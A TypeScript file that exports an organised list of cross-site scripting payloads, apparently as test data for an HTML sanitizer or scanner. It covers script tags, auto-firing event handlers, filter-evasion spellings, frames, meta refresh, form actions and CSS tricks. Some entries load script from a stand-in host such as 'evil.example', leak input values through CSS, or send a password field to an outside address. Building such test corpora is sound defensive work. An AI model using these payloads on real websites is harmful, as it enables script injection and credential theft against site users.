/** Elements and attributes that run something automatically. */
const spaces = ["", " ", "\t", "\n", "\f", "\r", "/", "/x", " x=1", ` x=">"`, "\u00a0", "\0"];

const scripts = [
  ...spaces.map((space) => `<script${space}>CALL</script>`),
  ...["SCRIPT", "ScRiPt", "sCRIPT"].map((name) => `<${name}>CALL</${name}>`),
  ...["type=module", "type=text/javascript", "language=javascript", "async", "defer"].map(
    (attribute) => `<script ${attribute}>CALL</script>`,
  ),
  ...["ADDRESS", "//evil.example/x.js", "data:text/javascript,CALL", "\\\\evil.example/x.js"].map(
    (source) => `<script src="${source}"></script>`,
  ),
  ...["</script >", "</script\n>", "</script/>", "</SCRIPT x=1>", ""].map(
    (end) => `<script>CALL//${end}`,
  ),
  "<<script>CALL//<</script>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<scr\0ipt>CALL</scr\0ipt>",
  "</script><script>CALL</script>",
  "<p><b><script>CALL</script></b></p>",
  "<script>/*</script><script>*/CALL</script>",
  `<script type="text/javascript;version=1.8">CALL</script>`,
  `<script src="ADDRESS" integrity crossorigin></script>`,
  `<link rel=modulepreload href="ADDRESS"><script type=importmap>{"imports":{"x":"ADDRESS"}}</script>`,
];

/** Events that fire without interaction, and on which element. */
const byThemselves: [string, string][] = [
  ["img src=x", "onerror"],
  ["img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "onload"],
  ["image src=x", "onerror"],
  ["img srcset=x", "onerror"],
  ["video src=x", "onerror"],
  ["video autoplay src=x", "onloadstart"],
  ["audio src=x", "onerror"],
  ["audio src=x", "onloadstart"],
  ["video><source", "onerror"],
  ["picture><source srcset=x><img src=x", "onerror"],
  ["video><track default src=x", "onerror"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onhashchange"],
  ["frameset", "onload"],
  ["iframe", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onerror"],
  ["embed src=x", "onload"],
  ["input autofocus", "onfocus"],
  ["input type=image src=x", "onerror"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["p tabindex=0 autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["p popover", "onbeforetoggle"],
  ["marquee", "onstart"],
  ["marquee loop=1 width=0", "onfinish"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"],
  ["svg", "onload"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x", "onbegin"],
  ["svg><image href=x", "onerror"],
  ["p style=animation:spin+1s", "onanimationstart"],
  ["p style=content-visibility:auto", "oncontentvisibilityautostatechange"],
];

/** Events that fire when somebody uses the page. */
const byReaders =
  "click dblclick mousedown mouseup mouseover mouseenter mouseleave mousemove pointerdown pointerover pointerrawupdate touchstart keydown keyup input beforeinput copy cut paste drag dragstart drop wheel scroll scrollend focus focusin blur contextmenu auxclick transitionend selectstart".split(
    " ",
  );

const elements = ["a href=#", "p", "img", "svg", "math", "details", "td", "custom-element", "xss"];

const handlers = [
  ...byThemselves.map(([element, event]) => `<${element} ${event}="CALL">`),
  ...byReaders.map((event, index) => `<${elements[index % elements.length]} on${event}=CALL>x`),
  ...elements.map((element) => `<${element} tabindex=1 onfocus=CALL onmouseover=CALL>x`),
];

const spellings = [
  "<img src=x onerror=CALL>",
  "<img src=x onerror='CALL'>",
  "<img src=x onerror=`CALL`>",
  `<img src=x OnErRoR="CALL">`,
  `<img src=x onerror\n=\n"CALL">`,
  `<img src=x onerror\t=\t"CALL">`,
  `<img src=x\fonerror="CALL">`,
  `<img/src=x/onerror="CALL">`,
  `<img src="x"onerror="CALL">`,
  `<img src=x onerror="&#88;&#x53;;CALL">`,
  `<img src=x onerror="CALL"`,
  `<img src=x onerror=CALL//`,
  `<img """><img src=x onerror="CALL">">`,
  `<img src=x x="\0" onerror="CALL">`,
  `<img src=x =x onerror="CALL">`,
  `<img src=x "onerror="CALL" onerror="CALL">`,
  `<IMG SRC=X ONERROR="CALL">`,
  `<img src=x onerror="javascript:CALL">`,
  `<img src=x onerror=&#x0043;ALL onerror=CALL>`,
  `<img src=x alt="\`><img src=x onerror=CALL>">`,
  `<x/y=">"onclick=CALL>x`,
  `<img src=x onerror="eval(this.alt)" alt="CALL">`,
  `<img src=x onerror="window['x'+'ss'](0);CALL">`,
  `<a href=# onclick="return CALL">x</a>`,
];

const frames = [
  `<iframe srcdoc="<script>parent.CALL</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.CALL&gt;"></iframe>`,
  `<iframe src="ADDRESS"></iframe>`,
  `<iframe src="data:text/html,<script>CALL</script>"></iframe>`,
  `<iframe src="javascript:parent.CALL"></iframe>`,
  `<frameset><frame src="javascript:parent.CALL"></frameset>`,
  `<object data="ADDRESS"></object>`,
  `<object data="data:text/html,<script>CALL</script>"></object>`,
  `<object type="text/html"><param name="src" value="ADDRESS"></object>`,
  `<embed src="ADDRESS">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>">`,
  `<applet code="ADDRESS"></applet>`,
  `<portal src="ADDRESS"></portal>`,
  `<fencedframe src="ADDRESS"></fencedframe>`,
  `<dialog open><iframe srcdoc="<script>parent.CALL</script>"></iframe></dialog>`,
];

const heads = [
  `<meta http-equiv=refresh content="0;url=ADDRESS">`,
  `<meta http-equiv="refresh" content="0; javascript:CALL">`,
  `<META HTTP-EQUIV=Refresh CONTENT="0;URL=data:text/html,<script>CALL</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="Set-Cookie" content="x=1">`,
  `<meta charset="utf-7">+ADw-script+AD4-CALL+ADw-/script+AD4-`,
  `<base href="ADDRESS/">`,
  `<base target="_top"><a href="/blog">x</a>`,
  `<link rel=import href="ADDRESS">`,
  `<link rel=stylesheet href="ADDRESS">`,
  `<link rel=preload as=script href="ADDRESS">`,
  `<link rel=prerender href="ADDRESS">`,
  `<link rel=manifest href="ADDRESS">`,
  `<head><title></title><script>CALL</script></head>`,
  `<html manifest="ADDRESS"><body onload=CALL></html>`,
  `<!doctype html><body onload=CALL>`,
];

const forms = [
  `<form action="javascript:CALL"><button>x</button></form>`,
  `<form><button formaction="javascript:CALL">x</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:CALL">x</button>`,
  `<form><input type=submit formaction="javascript:CALL" value=x></form>`,
  `<form><input type=image formaction="javascript:CALL" src=x></form>`,
  `<form action="ADDRESS"><input name=password type=password><button>x</button></form>`,
  `<isindex action="javascript:CALL" type=image>`,
  `<button popovertarget=p onclick=CALL>x</button><p id=p popover>y</p>`,
  `<button commandfor=p command=show-modal onclick=CALL>x</button><dialog id=p>y</dialog>`,
  `<select onchange=CALL><option>1<option>2</select>`,
  `<input type=checkbox onchange=CALL checked>`,
  `<textarea oninput=CALL>x</textarea>`,
  `<label for=name onclick=CALL>x</label>`,
];

const styles = [
  `<p style="width:expression(CALL)">x</p>`,
  `<p style="background:url(javascript:CALL)">x</p>`,
  `<p style="background:url(ADDRESS)">x</p>`,
  `<p style="behavior:url(ADDRESS)">x</p>`,
  `<p style="-moz-binding:url(ADDRESS#x)">x</p>`,
  `<p style="list-style:url('javascript:CALL')">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">x</p>`,
  `<style>@import "ADDRESS";</style>`,
  `<style>@im\\port url(ADDRESS);</style>`,
  `<style>*{background:url("javascript:CALL")}</style>`,
  `<style>body{display:none}</style>`,
  `<style>input[value^=a]{background:url(ADDRESS)}</style>`,
  `<style>@font-face{font-family:x;src:url(ADDRESS)}</style>`,
  `<style type="text/javascript">CALL</style>`,
  `<svg><style>@import url(ADDRESS)</style></svg>`,
  `<div style="animation:x 1s" onanimationend=CALL>x</div><style>@keyframes x{}</style>`,
];

export const markupPayloads = {
  script: scripts,
  handler: handlers,
  spelling: spellings,
  frame: frames,
  head: heads,
  form: forms,
  style: styles,
};
